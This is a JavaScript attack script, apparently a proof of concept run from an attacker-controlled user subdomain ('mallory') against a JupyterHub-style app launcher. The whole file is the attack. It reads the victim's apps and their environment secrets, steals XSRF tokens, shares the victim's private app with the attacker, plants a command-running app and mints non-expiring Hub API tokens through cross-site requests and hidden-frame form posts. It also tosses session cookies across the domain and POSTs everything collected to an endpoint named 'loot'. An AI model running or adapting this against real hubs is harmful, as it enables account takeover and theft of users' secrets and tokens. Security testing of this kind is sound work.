(async function () {
  const loot = [];
  const note = (step, value) => loot.push({ step, value: String(value).slice(0, 4000) });
  const host = location.hostname;
  const dot = host.indexOf(".");
  // On a user's subdomain (mallory.hub.test) the Hub is the parent domain, the launcher japps--service.<domain>.
  const sub = host.startsWith("mallory.");
  const domain = sub ? host.slice(dot + 1) : host;
  const port = location.port ? ":" + location.port : "";
  const hub = sub ? `${location.protocol}//${domain}${port}` : location.origin;
  const svc = sub ? `${location.protocol}//japps--service.${domain}${port}` : location.origin;
  const victim = document.body.dataset.victim;
  async function attempt(step, url, init) {
    try {
      const r = await fetch(url, Object.assign({ credentials: "include", redirect: "follow" }, init || {}));
      let text = "";
      try { text = await r.text(); } catch (e) { text = "(opaque)"; }
      note(step, `${r.status} ${r.type} ${text}`);
      return text;
    } catch (e) {
      note(step, `error ${e}`);
      return "";
    }
  }
  // 1. Silent login to the launcher, on this origin and on the launcher's.
  await attempt("login-same-origin", "/services/japps/oauth_login?next=/services/japps/api/apps");
  await attempt("login-launcher-origin", `${svc}/services/japps/oauth_login?next=/services/japps/api/apps`);
  // 2. Read the victim's apps (env values included) with the launcher API.
  await attempt("apps-same-origin", "/services/japps/api/apps");
  await attempt("apps-launcher-origin", `${svc}/services/japps/api/apps`);
  await attempt("app-launcher-origin", `${svc}/services/japps/api/apps/${victim}/secret-app`);
  // 3. Pages that carry the launcher's XSRF token.
  const form = await attempt("create-form", `${svc}/services/japps/create-app`);
  const m = /data-xsrf="([^"]+)"/.exec(form);
  const xsrf = m ? m[1] : "";
  // 4. Share the victim's private app with mallory, create an app in the victim's account.
  const headers = { "Content-Type": "application/json", "X-XSRFToken": xsrf };
  const share = JSON.stringify({ users: ["mallory"], groups: [] });
  const app = JSON.stringify({ framework: "command", display_name: "planted", command: ["{python}", "-m", "http.server", "{port}"] });
  for (const base of ["", svc]) {
    await attempt(`share-${base ? "cross" : "same"}`, `${base}/services/japps/api/apps/${victim}/secret-app/shares`, { method: "POST", headers, body: share });
    await attempt(`create-${base ? "cross" : "same"}`, `${base}/services/japps/api/apps`, { method: "POST", headers, body: app });
    await attempt(`share-no-cors-${base ? "cross" : "same"}`, `${base}/services/japps/api/apps/${victim}/secret-app/shares`, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: share });
  }
  // 5. A token from the Hub: its token page, and its API (same origin and the Hub's).
  const tokenPage = await attempt("hub-token-page", `${hub}/hub/token`);
  await attempt("hub-token-page-same", "/hub/token");
  const hm = /name="_xsrf" value="([^"]+)"|data-xsrf="([^"]+)"|xsrf_token\s*[:=]\s*"([^"]+)"/.exec(tokenPage);
  const hubXsrf = hm ? (hm[1] || hm[2] || hm[3]) : "";
  const tokenBody = JSON.stringify({ note: "planted", expires_in: null });
  for (const base of ["", hub]) {
    await attempt(`mint-${base ? "cross" : "same"}`, `${base}/hub/api/users/${victim}/tokens`, { method: "POST", headers: { "Content-Type": "application/json", "X-XSRFToken": hubXsrf }, body: tokenBody });
    await attempt(`mint-no-cors-${base ? "cross" : "same"}`, `${base}/hub/api/users/${victim}/tokens`, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: tokenBody });
  }
  await attempt("hub-user", `${hub}/hub/api/user`);
  // 6. Form posts (navigations in a hidden frame) to the launcher and the Hub.
  for (const [name, action, fields] of [
    ["form-share", `${svc}/services/japps/api/apps/${victim}/secret-app/shares`, { users: "mallory" }],
    ["form-create", `${svc}/services/japps/create-app`, { name: "planted-form", framework: "command", command: "python -m http.server {port}" }],
    ["form-mint", `${hub}/hub/api/users/${victim}/tokens`, { note: "planted-form" }],
  ]) {
    const frame = document.createElement("iframe");
    frame.name = name;
    document.body.append(frame);
    const f = document.createElement("form");
    f.method = "POST"; f.action = action; f.target = name;
    for (const [k, v] of Object.entries(fields)) {
      const i = document.createElement("input"); i.name = k; i.value = v; f.append(i);
    }
    document.body.append(f);
    f.submit();
    note(name, "submitted");
  }
  await new Promise((done) => setTimeout(done, 1500));
  // 7. Cookie tossing: the owner's launcher session, and junk for the Hub's login, for the whole domain.
  const toss = document.body.dataset.toss;
  const scope = sub ? `; domain=${domain}` : "";
  for (const name of ["service-japps", "__Host-service-japps"]) {
    document.cookie = `${name}=${toss}${scope}; path=/services/japps/`;
    document.cookie = `${name}=${toss}${scope}; path=/`;
  }
  document.cookie = `jupyterhub-hub-login=tossed${scope}; path=/hub/`;
  document.cookie = `__Host-jupyterhub-hub-login=tossed${scope}; path=/`;
  note("cookies-visible", document.cookie);
  await fetch("loot", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(loot) });
  document.title = "done";
})();
